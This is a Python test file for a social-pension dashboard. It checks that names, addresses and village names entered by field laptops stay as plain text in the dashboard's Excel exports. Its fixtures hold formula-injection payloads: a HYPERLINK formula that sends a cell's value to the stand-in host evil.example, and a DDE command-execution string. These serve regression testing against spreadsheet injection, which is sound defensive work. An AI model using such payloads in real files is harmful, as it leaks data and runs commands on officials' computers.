"""Text from laptops stays text in the dashboard's xlsx files (issue 14, tryout): a laptop
enrolled as '=HYPERLINK(…)' was written as a formula in the admin's device list. Laptops enrol
and push over real HTTP; the files are downloaded as the admin and the commune official would."""

from __future__ import annotations

import io
import uuid
from datetime import date

import httpx
import pytest
from openpyxl import load_workbook
from server_helpers import Laptop
from test_dashboard import (
    HOAN_KIEM,
    NGOC_HA,
    city,  # noqa: F401 (the fixture: a live server with three accounts)
    login,
)

from city_server.dashboard.cells import refresh


@pytest.fixture
def make_laptop(city):  # noqa: F811 (the fixture)
    """Laptops enrolled with the city's server (not a second server on its database)."""
    http = httpx.Client(base_url=city.url, timeout=30)

    def make(name: str = "laptop", *communes: str) -> Laptop:
        return Laptop(http, name).enroll(city.code(*communes))

    yield make
    http.close()


DEVICE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PERSON = '=HYPERLINK("http://evil.example/","Nguyễn Thị Hoa")'
ADDRESS = "=1+2 ngõ Hàng Bạc"
VILLAGE = "=cmd|' /C calc'!A0"
ERROR_LOOKING = "#N/A"


def _cells(content: bytes, sheet: str | None = None) -> list:
    book = load_workbook(io.BytesIO(content))
    sheets = [book[sheet]] if sheet else book.worksheets
    return [c for s in sheets for row in s.iter_rows() for c in row if c.value is not None]


def _shown_as_typed(cells: list, text: str, *, leading: bool = False) -> None:
    """``text`` is in the file as a text cell a spreadsheet shows as it was typed (with
    ``leading``: a cell starting with it, such as "name (device id)")."""
    found = [c for c in cells if c.value == text or leading and str(c.value).startswith(text)]
    assert found, f"{text!r} not in the file"
    assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]
    if text.startswith("="):
        assert all(c.quotePrefix for c in found)  # editing the cell keeps it text


def test_a_laptop_named_like_a_formula_is_text_in_the_admins_export(city, make_laptop):  # noqa: F811
    make_laptop(DEVICE, HOAN_KIEM)
    make_laptop(ERROR_LOOKING, HOAN_KIEM)
    make_laptop("Máy\x07 của phường", HOAN_KIEM)  # a bell no worksheet can hold
    adm = login(city, "adm")
    answer = adm.get(f"/admin?q={HOAN_KIEM}&export=xlsx")
    assert answer.status_code == 200
    for sheet in ("Thiết bị", "Mã đăng ký"):  # the device, the code it used
        cells = _cells(answer.content, sheet)
        _shown_as_typed(cells, DEVICE, leading=sheet == "Mã đăng ký")
        assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    devices = _cells(answer.content, "Thiết bị")
    _shown_as_typed(devices, ERROR_LOOKING)
    _shown_as_typed(devices, "Máy của phường")


def _push_hostile_person(server, make_laptop) -> str:
    """A second laptop of Ngọc Hà pushes a village, household and person typed as formulas,
    paid last month and not yet withdrawn (so on the official's list to act on)."""
    month = server.storage.dash_months()[-1]
    laptop = make_laptop("Máy thứ hai", NGOC_HA)
    ids = {k: str(uuid.uuid4()) for k in ("village", "household", "person", "benefit", "payment")}
    place = {"commune_code": NGOC_HA, "commune_list_version": "2025-07-01"}
    records = [
        ("village", {"name": VILLAGE, "kind": "thon", **place}),
        ("household", {"village_id": ids["village"], "address": ADDRESS, **place}),
        (
            "person",
            {
                "household_id": ids["household"],
                "full_name": PERSON,
                "given_name": "Hoa",
                "birth_year": 1940,
                "sex": "female",
                "consent_date": "2025-08-01",
                "vulnerabilities": [],
                "phones": [{"number": "+84912345678", "owner": "self"}],
            },
        ),
        (
            "benefit",
            {
                "person_id": ids["person"],
                "household_id": ids["household"],
                "scheme": "social_pension",
                "category": "age_75_plus",
                "monthly_amount": 540_000,
                "channel": "post_office_cash",
            },
        ),
        (
            "payment",
            {
                "benefit_id": ids["benefit"],
                "person_id": ids["person"],
                "household_id": ids["household"],
                "period": month,
                "amount": 540_000,
                "credited_on": date(int(month[:4]), int(month[5:]), 5).isoformat(),
            },
        ),
    ]
    changes = [laptop.change(e, ids[e], 1, f, commune=NGOC_HA) for e, f in records]
    answer = laptop.push(changes)
    assert answer.status_code == 200, answer.text
    assert {r["status"] for r in answer.json()["results"]} == {"accepted"}, answer.text
    refresh(server.storage)
    return month


def test_names_and_addresses_typed_as_formulas_are_text_in_the_officials_files(
    city,  # noqa: F811
    make_laptop,
):
    month = _push_hostile_person(city, make_laptop)
    off = login(city, "off")
    listed = off.get(f"/communes/{NGOC_HA}?from={month}&to={month}&export=xlsx")
    assert listed.status_code == 200
    cells = _cells(listed.content, "Chưa rút tiền - cần liên hệ")
    for text in (PERSON, ADDRESS, VILLAGE):
        _shown_as_typed(cells, text)
    everywhere = _cells(listed.content)
    assert not [c.coordinate for c in everywhere if c.data_type in ("f", "e")]

    full = off.get(f"/communes/{NGOC_HA}/report.xlsx?from={month}&to={month}")
    assert full.status_code == 200
    for sheet in ("Dữ liệu", "Chưa nhận tiền"):
        cells = _cells(full.content, sheet)
        _shown_as_typed(cells, PERSON)
        _shown_as_typed(cells, VILLAGE)
    assert not [c.coordinate for c in _cells(full.content) if c.data_type in ("f", "e")]
